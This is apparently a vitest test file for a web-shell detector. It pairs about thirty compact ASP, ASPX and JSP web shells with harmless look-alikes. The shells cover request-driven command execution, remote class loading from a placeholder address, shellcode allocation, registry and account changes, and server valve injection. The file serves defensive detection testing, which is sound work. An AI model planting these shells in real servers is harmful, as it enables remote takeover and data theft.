import { beforeAll, describe, expect, test } from 'vitest'
import { testGrammars } from '../../../../../test/grammars.ts'
import { analyse } from '../analyse.ts'
import type { Grammars } from '../syntax.ts'

let grammars: Grammars
beforeAll(async () => {
  grammars = await testGrammars()
})

const verdictOf = (path: string, text: string) =>
  analyse({ path, text, bytes: Uint8Array.from(text, letter => letter.charCodeAt(0) & 255) }, grammars).verdict

/** One way of doing harm, and what looks like it. Nothing here reaches anything: names of hosts and files do not exist. */
const PAIRS: readonly (readonly [what: string, path: string, shell: string, twin: string])[] = [
  [
    'a component that runs script',
    'a.asp',
    '<%Set o=Server.CreateObject("MSScriptControl.ScriptControl"):o.Language="VBScript":o.ExecuteStatement Request("c")%>',
    '<%Set o=Server.CreateObject("MSScriptControl.ScriptControl"):o.Language="VBScript":o.ExecuteStatement "x = 1 + 1"%>',
  ],
  [
    'Windows Management, object by object',
    'a.asp',
    '<%Set l=CreateObject("WbemScripting.SWbemLocator"):Set s=l.ConnectServer(".","root\\cimv2"):Set p=s.Get("Win32_Process"):p.Create Request("c")%>',
    '<%Set l=CreateObject("WbemScripting.SWbemLocator"):Set s=l.ConnectServer(".","root\\cimv2"):Set p=s.Get("Win32_OperatingSystem"):Response.Write p.Caption & Request("c")%>',
  ],
  [
    'a style sheet of the request',
    'a.asp',
    '<%Set x=CreateObject("MSXML2.DOMDocument"):Set y=CreateObject("MSXML2.DOMDocument"):x.loadXML "<a/>":y.loadXML Request("x"):Response.Write x.transformNode(y)%>',
    '<%Set x=CreateObject("MSXML2.DOMDocument"):Set y=CreateObject("MSXML2.DOMDocument"):x.loadXML Request("x"):y.load Server.MapPath("list.xsl"):Response.Write x.transformNode(y)%>',
  ],
  [
    'a file that is filled and taken in as code',
    'a.asp',
    '<%Set s=CreateObject("ADODB.Stream"):s.Type=2:s.Open:s.WriteText Request("d"):s.SaveToFile Server.MapPath("t.txt"),2:Server.Execute "t.txt"%>',
    '<%Set s=CreateObject("ADODB.Stream"):s.Type=2:s.Open:s.WriteText Request("d"):s.SaveToFile Server.MapPath("t.txt"),2:Server.Execute "thanks.asp"%>',
  ],
  [
    'an upload component that keeps files where it is told',
    'a.asp',
    '<%Set U=Server.CreateObject("Persits.Upload"):U.Save Request("dir")%>',
    '<%Set U=Server.CreateObject("Persits.Upload"):U.Save "d:\\uploads"%>',
  ],
  [
    'letters sent as numbers',
    'a.asp',
    '<%x=Split(Request("x"),"|")\nFor i=0 To UBound(x)\ns=s&Chr(x(i))\nNext\nExecute s%>',
    '<%x=Split(Request("x"),"|")\nFor i=0 To UBound(x)\ns=s&Chr(x(i))\nNext\nResponse.Write Server.HTMLEncode(s)%>',
  ],
  [
    'both languages in one page',
    'a.asp',
    '<script language="JScript" runat="server">function go(t){return eval(t)}</script>\n<% Dim a\na = Request("c") & ""\ngo a %>',
    '<script language="JScript" runat="server">function go(t){return t.length}</script>\n<% Dim a\na = Request("c") & ""\nResponse.Write go(a) %>',
  ],
  [
    'a function by a name in pieces',
    'a.asp',
    '<script language="JScript" runat="server">var e=this["ev"+"al"];e(""+Request.QueryString("q"))</script>',
    '<script language="JScript" runat="server">var e=this["par"+"seInt"];Response.Write(e(""+Request.QueryString("q")))</script>',
  ],
  [
    'a program in the text of the page',
    'a.asp',
    `<%t=${[77, 90, 144, 0, ...Array.from({ length: 80 }, () => 0)].map(code => `Chr(${code})`).join('&')}\nSet f=CreateObject("Scripting.FileSystemObject")\nSet o=f.CreateTextFile(f.GetSpecialFolder(2)&"\\"&f.GetTempName(),True)\no.Write t%>`,
    `<%t=${[66, 77, 144, 0, ...Array.from({ length: 80 }, () => 0)].map(code => `Chr(${code})`).join('&')}\nSet f=CreateObject("Scripting.FileSystemObject")\nSet o=f.CreateTextFile(f.GetSpecialFolder(2)&"\\"&f.GetTempName(),True)\no.Write t%>`,
  ],
  [
    'the registry, as the request says',
    'a.asp',
    '<%Set w=CreateObject("WScript.Shell"):w.RegWrite Request("k"),Request("v")%>',
    '<%Set w=CreateObject("WScript.Shell"):Response.Write w.RegRead("HKLM\\Software\\Example\\Version")%>',
  ],
  [
    'accounts of the machine',
    'a.asp',
    '<%Set c=GetObject("WinNT://server"):Set u=c.Create("user",Request("u")):u.SetPassword Request("p"):u.SetInfo%>',
    '<%Set c=GetObject("WinNT://server"):For Each u In c\nResponse.Write u.Name\nNext%>',
  ],
  ['a picture as code', 'a.asp', '<!--#include file="logo.jpg"-->', '<!--#include file="header.inc"--><img src="logo.jpg">'],
  [
    'objects of what was sent',
    'a.aspx',
    '<%@ Page Language="C#"%><%new System.Web.UI.LosFormatter().Deserialize(Request.Form["v"]);%>',
    '<%@ Page Language="C#"%><%new System.Web.UI.LosFormatter().Deserialize((string)Session["kept"]);%>',
  ],
  [
    'a text that is given all rights',
    'a.aspx',
    '<%@ Page Language="Jscript"%><%var t=make();eval(t,"unsafe");%>',
    '<%@ Page Language="Jscript"%><%var t=eval("1+1");Response.Write(t);%>',
  ],
  [
    'machine code',
    'a.aspx',
    '<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32")]static extern IntPtr VirtualAlloc(IntPtr a,UIntPtr s,Int32 t,IntPtr p);[DllImport("kernel32")]static extern IntPtr CreateThread(IntPtr a,UIntPtr s,IntPtr f,IntPtr p,Int32 g,ref IntPtr i);void Page_Load(object s,EventArgs e){byte[] b=new byte[]{1,2,3};Marshal.Copy(b,0,VirtualAlloc(IntPtr.Zero,(UIntPtr)3,0x3000,(IntPtr)64),3);}</script>',
    '<%@ Page Language="C#"%><script runat="server">[DllImport("kernel32")]static extern uint GetTickCount();void Page_Load(object s,EventArgs e){Response.Write(GetTickCount());}</script>',
  ],
  [
    'a component of Windows by its name',
    'a.aspx',
    '<%@ Page Language="C#"%><%dynamic s=Activator.CreateInstance(Type.GetTypeFromProgID("WScript.Shell"));Response.Write(s.Exec("cmd /c "+Request["c"]).StdOut.ReadAll());%>',
    '<%@ Page Language="C#"%><%dynamic s=Activator.CreateInstance(Type.GetTypeFromProgID("MSXML2.DOMDocument"));s.loadXML(Request["c"]);%>',
  ],
  [
    'pages that lie in no file',
    'a.aspx',
    '<%@ Page Language="C#"%><script runat="server">class V:System.Web.Hosting.VirtualPathProvider{}void Page_Load(object s,EventArgs e){System.Web.Hosting.HostingEnvironment.RegisterVirtualPathProvider(new V());}</script>',
    '<%@ Page Language="C#"%><%Response.Write(System.Web.Hosting.HostingEnvironment.VirtualPathProvider.FileExists("~/a.aspx"));%>',
  ],
  [
    'a file in every folder',
    'a.aspx',
    '<%@ Page Language="C#"%><script runat="server">void Scan(DirectoryInfo d){foreach(DirectoryInfo i in d.GetDirectories())Scan(i);File.Create(d.FullName+"\\\\test").Close();}void Go(object s,EventArgs e){Scan(new DirectoryInfo(Start_TextBox.Text));}</script><form runat="server"><asp:TextBox ID="Start_TextBox" runat="server"/></form>',
    '<%@ Page Language="C#"%><script runat="server">void Go(object s,EventArgs e){foreach(DirectoryInfo i in new DirectoryInfo(Server.MapPath("albums")).GetDirectories())Response.Write(i.Name);}</script>',
  ],
  [
    'a method by a handle',
    'a.jsp',
    '<%java.lang.invoke.MethodHandles.lookup().findVirtual(Runtime.class,"exec",java.lang.invoke.MethodType.methodType(Process.class,String.class)).invoke(Runtime.getRuntime(),request.getParameter("c"));%>',
    '<%java.lang.invoke.MethodHandles.lookup().findVirtual(String.class,"concat",java.lang.invoke.MethodType.methodType(String.class,String.class)).invoke("a",request.getParameter("c"));%>',
  ],
  [
    'a lambda',
    'a.jsp',
    '<%java.util.function.Function<String,Object> f=s->{try{return Runtime.getRuntime().exec(s);}catch(Exception e){return null;}};f.apply(request.getParameter("c"));%>',
    '<%java.util.function.Function<String,Object> f=s->s.trim();out.print(f.apply(request.getParameter("c")));%>',
  ],
  [
    'a statement of beans',
    'a.jsp',
    '<%@page import="java.beans.*"%><%Expression e=new Expression(Runtime.getRuntime(),"exec",new Object[]{request.getParameter("c")});e.getValue();%>',
    '<%@page import="java.beans.*"%><%Expression e=new Expression("a","concat",new Object[]{request.getParameter("c")});e.getValue();%>',
  ],
  [
    'a command in a cookie',
    'a.jsp',
    '<%for(Cookie k:request.getCookies())if(k.getName().equals("x"))Runtime.getRuntime().exec(k.getValue());%>',
    '<%for(Cookie k:request.getCookies())if(k.getName().equals("lang"))out.print(k.getValue().length());%>',
  ],
  [
    'classes of another server',
    'a.jsp',
    '<%Class k=new java.net.URLClassLoader(new java.net.URL[]{new java.net.URL("http://192.0.2.9/a.jar")}).loadClass("A");k.newInstance();%>',
    '<%Class k=Class.forName("com.example.A");k.newInstance();out.print(new java.net.URL("http://192.0.2.9/a.jar").getHost());%>',
  ],
  [
    'a valve for the running server',
    'a.jsp',
    '<%@page import="org.apache.catalina.core.*,org.apache.catalina.valves.*"%><%!class V extends ValveBase{public void invoke(Request q,Response r){}}%><%StandardContext sc=context(request);sc.getPipeline().addValve(new V());%>',
    '<%@page import="org.apache.catalina.core.*"%><%StandardContext sc=context(request);out.print(sc.getPipeline().getValves().length);%>',
  ],
  [
    'an agent for another program',
    'a.jsp',
    '<%Class c=Class.forName("com.sun.tools.attach.VirtualMachine");Object vm=c.getMethod("attach",String.class).invoke(null,request.getParameter("pid"));c.getMethod("loadAgent",String.class).invoke(vm,request.getParameter("jar"));%>',
    '<%Class c=Class.forName("com.sun.tools.attach.VirtualMachine");out.print(c.getMethod("list").invoke(null));%>',
  ],
  [
    'native code the request names',
    'a.jsp',
    '<%System.load(request.getParameter("so"));%>',
    '<%System.loadLibrary("imaging");out.print(request.getParameter("so"));%>',
  ],
  [
    'letters of the code as references',
    'a.jspx',
    '<hi xmlns:hi="http://java.sun.com/JSP/Page"><hi:scriptlet>Runtime.getRuntime().e&#120;ec(request.getParameter("c"));</hi:scriptlet></hi>',
    '<hi xmlns:hi="http://java.sun.com/JSP/Page"><hi:scriptlet>out.print("&#120;" + request.getParameter("c").length());</hi:scriptlet></hi>',
  ],
  [
    'every table into a file',
    'a.jsp',
    '<%@page import="java.sql.*,java.io.*,java.util.*"%><%Connection c=DriverManager.getConnection("jdbc:mysql://localhost/a","u","p");ResultSet t=c.getMetaData().getTables(null,null,"%",null);while(t.next()){String n=t.getString(3);PrintWriter w=new PrintWriter(new FileWriter("/srv/"+n+".txt"));ResultSet r=c.createStatement().executeQuery("select * from "+n);while(r.next())w.println(r.getString(1));w.close();}%>',
    '<%@page import="java.sql.*,java.io.*"%><%Connection c=DriverManager.getConnection("jdbc:mysql://localhost/a","u","p");PrintWriter w=new PrintWriter(new FileWriter("/srv/orders.txt"));ResultSet r=c.createStatement().executeQuery("select * from orders");while(r.next())w.println(r.getString(1));w.close();%>',
  ],
]

const HITS = ['web-shell', 'uploader', 'dropper']

describe('techniques, and what looks like them', () => {
  test.each(PAIRS)('%s', (_what, path, shell, twin) => {
    expect(HITS).toContain(verdictOf(path, shell))
    expect(HITS).not.toContain(verdictOf(path, twin))
  })
})

test.each([
  ['a command of Windows, no directive', '<%=CreateObject("WScript.Shell").exec(Request.Form("a").trim).StdOut.ReadAll%>'],
  ['a directive after a blank', '<% @Page Language="Jscript"%><%eval(Request.Item["h"],"unsafe");%>'],
  ['code after a comment', '<%\'<% nothing <%:%><%execute request("s")%>'],
  [
    'Java in a file that says nothing',
    '<%@page import="java.io.*"%><%Process p=Runtime.getRuntime().exec(request.getParameter("c"));%>',
  ],
])('content decides, not the name: %s', (_what, text) => {
  for (const path of ['logo.gif', 'readme.txt', 'a.aspx', 'noname']) {
    // Named as another server's page it is read the way it is written, too.
    expect([path, HITS.includes(verdictOf(path, text))]).toEqual([path, true])
  }
})
